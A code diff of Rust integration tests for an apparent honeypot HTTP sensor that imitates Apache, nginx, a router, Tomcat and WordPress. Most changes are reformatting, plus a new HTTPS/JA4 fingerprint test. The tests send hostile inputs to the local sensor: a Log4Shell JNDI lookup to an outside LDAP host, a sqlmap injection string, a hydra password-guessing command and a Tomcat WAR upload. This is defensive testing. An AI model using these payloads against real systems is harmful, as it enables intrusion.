@@ -90,7 +90,10 @@ impl Harness {
             }
             tokio::time::sleep(Duration::from_millis(25)).await;
         }
-        panic!("timed out waiting for {what}: {:#?}", self.events.events_by_time());
+        panic!(
+            "timed out waiting for {what}: {:#?}",
+            self.events.events_by_time()
+        );
     }
 
     pub(crate) fn data_dir(&self) -> &Path {
@@ -180,8 +183,14 @@ pub(crate) async fn compare_captures(
         let want = std::fs::read(dir.join(format!("{case}.http"))).unwrap();
         // The captures ran on port 8181; the sensor runs on a free port.
         let got = String::from_utf8_lossy(&got)
-            .replace(&format!(" Port {}</address>", harness.addr.port()), " Port 8181</address>")
-            .replace(&format!("127.0.0.1:{}", harness.addr.port()), "127.0.0.1:8181")
+            .replace(
+                &format!(" Port {}</address>", harness.addr.port()),
+                " Port 8181</address>",
+            )
+            .replace(
+                &format!("127.0.0.1:{}", harness.addr.port()),
+                "127.0.0.1:8181",
+            )
             .into_bytes();
         let (want, got) = (normalise(&want, masks), normalise(&got, masks));
         if want != got {
@@ -222,7 +231,8 @@ async fn the_apache_persona_answers_as_debians_apache() {
     let harness = Harness::start(|c| {
         c.app = "apache".into();
         c.listen = four_digit_port();
-    }).await;
+    })
+    .await;
     compare_captures(
         &harness,
         "apache-2.4-debian",
@@ -299,7 +309,8 @@ async fn the_nginx_persona_answers_as_debians_nginx() {
     let harness = Harness::start(|c| {
         c.app = "nginx".into();
         c.listen = four_digit_port();
-    }).await;
+    })
+    .await;
     let cases: Vec<String> = std::fs::read_to_string(testdata().join("nginx-debian/INDEX.tsv"))
         .unwrap()
         .lines()
@@ -418,7 +429,10 @@ async fn curl_basic_auth_is_captured_and_refused() {
         run_client(curl).await
     };
     let answer = String::from_utf8_lossy(&output.stdout).into_owned();
-    assert!(answer.starts_with("HTTP/1.1 401 Unauthorized\r\n"), "{answer}");
+    assert!(
+        answer.starts_with("HTTP/1.1 401 Unauthorized\r\n"),
+        "{answer}"
+    );
     assert!(
         answer.contains("WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n"),
         "{answer}"
@@ -431,7 +445,11 @@ async fn curl_basic_auth_is_captured_and_refused() {
         .await;
     assert_eq!(
         logins(&events),
-        vec![("admin".into(), Some("tp-l1nk!".into()), AuthMethod::Password)]
+        vec![(
+            "admin".into(),
+            Some("tp-l1nk!".into()),
+            AuthMethod::Password
+        )]
     );
     let EventKind::HttpRequest {
         method,
@@ -444,11 +462,19 @@ async fn curl_basic_auth_is_captured_and_refused() {
     else {
         unreachable!()
     };
-    assert_eq!((method.as_str(), uri.as_str(), *status), ("GET", "/userRpm/LoginRpm.htm", Some(401)));
+    assert_eq!(
+        (method.as_str(), uri.as_str(), *status),
+        ("GET", "/userRpm/LoginRpm.htm", Some(401))
+    );
     assert!(user_agent.as_deref().unwrap().starts_with("curl/"));
     let detail = detail.as_ref().unwrap();
     assert_eq!(detail.app.as_deref(), Some("router"));
-    assert!(detail.headers.iter().any(|(n, v)| n == "Authorization" && v.starts_with("Basic ")));
+    assert!(
+        detail
+            .headers
+            .iter()
+            .any(|(n, v)| n == "Authorization" && v.starts_with("Basic "))
+    );
     assert_eq!(detail.response_size, Some(answer.len() as u64));
 }
 
@@ -465,16 +491,25 @@ async fn curl_multipart_upload_goes_to_the_artifact_store() {
     let url = format!("http://{}/manager/html/upload", harness.addr);
     let output = {
         let mut curl = std::process::Command::new("curl");
-        curl.args(["-s", "-o", "/dev/null", "-w", "%{http_code}", "-u", "tomcat:s3cret"])
-            .arg("-F")
-            .arg(format!("deployWar=@{}", war.display()))
-            .arg(&url);
+        curl.args([
+            "-s",
+            "-o",
+            "/dev/null",
+            "-w",
+            "%{http_code}",
+            "-u",
+            "tomcat:s3cret",
+        ])
+        .arg("-F")
+        .arg(format!("deployWar=@{}", war.display()))
+        .arg(&url);
         run_client(curl).await
     };
     assert_eq!(String::from_utf8_lossy(&output.stdout), "401");
     let events = harness
         .wait_for("the upload", |e| {
-            e.iter().any(|e| matches!(e.kind, EventKind::FileUpload { .. }))
+            e.iter()
+                .any(|e| matches!(e.kind, EventKind::FileUpload { .. }))
         })
         .await;
     let sha256 = events
@@ -513,7 +548,11 @@ async fn curl_multipart_upload_goes_to_the_artifact_store() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn hydra_http_post_form_on_wordpress_records_each_attempt_once() {
     // hydra has no --version (`-h` exits 255): whether it runs at all is the probe.
-    if std::process::Command::new("hydra").arg("-h").output().is_err() {
+    if std::process::Command::new("hydra")
+        .arg("-h")
+        .output()
+        .is_err()
+    {
         return tool_missing("hydra");
     }
     let harness = Harness::start(|c| c.app = "wordpress".into()).await;
@@ -525,8 +564,18 @@ async fn hydra_http_post_form_on_wordpress_records_each_attempt_once() {
         hydra
             .args(["-l", "admin", "-P"])
             .arg(work.path().join("pw.txt"))
-            .args(["-t", "4", "-I", "-s", &harness.addr.port().to_string(), "127.0.0.1"])
-            .args(["http-post-form", "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=is incorrect"]);
+            .args([
+                "-t",
+                "4",
+                "-I",
+                "-s",
+                &harness.addr.port().to_string(),
+                "127.0.0.1",
+            ])
+            .args([
+                "http-post-form",
+                "/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log+In:F=is incorrect",
+            ]);
         run_client(hydra).await
     };
     let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
@@ -576,8 +625,14 @@ async fn nmap_names_the_apache_persona_as_debians_apache() {
         "|_http-title: Apache2 Debian Default Page: It works",
         "|_http-server-header: Apache/2.4.71 (Debian)",
     ] {
-        assert!(stdout.contains(expected), "{expected:?} in nmap's output:\n{stdout}");
-        assert!(real.contains(expected), "{expected:?} as against the real Apache");
+        assert!(
+            stdout.contains(expected),
+            "{expected:?} in nmap's output:\n{stdout}"
+        );
+        assert!(
+            real.contains(expected),
+            "{expected:?} as against the real Apache"
+        );
     }
 }
 
@@ -615,7 +670,10 @@ async fn slow_heads_are_cut_off() {
     })
     .await;
     let mut stream = TcpStream::connect(harness.addr).await.unwrap();
-    stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ").await.unwrap();
+    stream
+        .write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-a: ")
+        .await
+        .unwrap();
     let started = std::time::Instant::now();
     let mut buf = [0u8; 64];
     // Bytes trickle in; the sensor closes at its deadline anyway.
@@ -645,7 +703,10 @@ async fn oversized_bodies_are_refused() {
     .await;
     let request = b"POST /wp-login.php HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\nlog=a";
     let answer = String::from_utf8_lossy(&raw_exchange(harness.addr, request).await).into_owned();
-    assert!(answer.starts_with("HTTP/1.1 413 Request Entity Too Large\r\n"), "{answer}");
+    assert!(
+        answer.starts_with("HTTP/1.1 413 Request Entity Too Large\r\n"),
+        "{answer}"
+    );
     assert!(answer.contains("Connection: close\r\n"), "{answer}");
 }
 
@@ -663,9 +724,11 @@ async fn attacks_are_labelled_in_the_event() {
     let harness = Harness::start(|c| c.app = "apache".into()).await;
     let sqlmap = b"GET /index.php?id=1%27%20AND%203617%3D3617%20AND%20%27xYzA%27%3D%27xYzA HTTP/1.1\r\n\
                    Host: x\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\nConnection: close\r\n\r\n";
-    let log4shell = b"GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://203.0.113.5:1389/Exploit}\r\n\
+    let log4shell =
+        b"GET / HTTP/1.1\r\nHost: x\r\nX-Api-Version: ${jndi:ldap://203.0.113.5:1389/Exploit}\r\n\
                       User-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
-    let plain = b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) \
+    let plain =
+        b"GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) \
                   Gecko/20100101 Firefox/128.0\r\nConnection: close\r\n\r\n";
     for request in [&sqlmap[..], &log4shell[..], &plain[..]] {
         raw_exchange(harness.addr, request).await;
@@ -677,8 +740,11 @@ async fn attacks_are_labelled_in_the_event() {
         requests(&events)
             .into_iter()
             .find(|e| match &e.kind {
-                EventKind::HttpRequest { uri, user_agent, .. } => {
-                    uri.starts_with(prefix) && user_agent.as_deref().unwrap_or("").starts_with(agent)
+                EventKind::HttpRequest {
+                    uri, user_agent, ..
+                } => {
+                    uri.starts_with(prefix)
+                        && user_agent.as_deref().unwrap_or("").starts_with(agent)
                 }
                 _ => false,
             })
@@ -686,7 +752,10 @@ async fn attacks_are_labelled_in_the_event() {
             .unwrap()
     };
     let sqli = by_uri("/index.php", "sqlmap");
-    assert!(sqli.contains(&"sqli".into()) && sqli.contains(&"scanner:sqlmap".into()), "{sqli:?}");
+    assert!(
+        sqli.contains(&"sqli".into()) && sqli.contains(&"scanner:sqlmap".into()),
+        "{sqli:?}"
+    );
     let jndi = requests(&events)
         .into_iter()
         .find(|e| match &e.kind {
@@ -700,4 +769,57 @@ async fn attacks_are_labelled_in_the_event() {
     assert_eq!(jndi, vec!["log4shell".to_owned()]);
     let _ = by_uri("/", "Mozilla/5.0 (X11");
     assert!(by_uri("/", "Mozilla/5.0 (X11").is_empty());
+}
+
+/// HTTPS with the generated certificate: curl (with SNI) gets the page; the request's
+/// event carries the server name and the JA4 fingerprint, which a `client.fingerprint`
+/// event also records; the certificate names the persona's host.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn https_captures_sni_and_ja4() {
+    let harness = Harness::start(|c| {
+        c.app = "apache".into();
+        c.tls = Some(hpti_sensors::http::tls::TlsConfig::default());
+    })
+    .await;
+    let port = harness.addr.port();
+    let output = {
+        let mut curl = std::process::Command::new("curl");
+        curl.args(["-sk", "-v", "--resolve"])
+            .arg(format!("www.example.com:{port}:127.0.0.1"))
+            .arg(format!("https://www.example.com:{port}/"));
+        run_client(curl).await
+    };
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert!(
+        stdout.contains("<title>Apache2 Debian Default Page: It works</title>"),
+        "{stderr}"
+    );
+    let persona: toml::Value =
+        toml::from_str(&std::fs::read_to_string(harness.data_dir().join("persona.toml")).unwrap())
+            .unwrap();
+    let hostname = persona["hostname"].as_str().unwrap();
+    assert!(
+        stderr.contains(&format!("subject: CN={hostname}")),
+        "{stderr}"
+    );
+    let events = harness
+        .wait_for("the request", |e| requests(e).len() == 1)
+        .await;
+    let EventKind::HttpRequest { detail, .. } = &requests(&events)[0].kind else {
+        unreachable!()
+    };
+    let detail = detail.as_ref().unwrap();
+    assert_eq!(detail.tls_sni.as_deref(), Some("www.example.com"));
+    let ja4 = detail.ja4.clone().unwrap();
+    // t, TLS 1.3, a domain name, then cipher and extension counts and the ALPN (curl
+    // offers h2 first).
+    let shape = regex::Regex::new(r"^t13d[0-9]{4}h2_[0-9a-f]{12}_[0-9a-f]{12}$").unwrap();
+    assert!(shape.is_match(&ja4), "{ja4}");
+    assert!(events.iter().any(|e| matches!(
+        &e.kind,
+        EventKind::ClientFingerprint { method, fingerprint, .. } if method == "ja4" && *fingerprint == ja4
+    )));
+    // The certificate is kept for the next start.
+    assert!(harness.data_dir().join("tls/http-test.crt").is_file());
 }
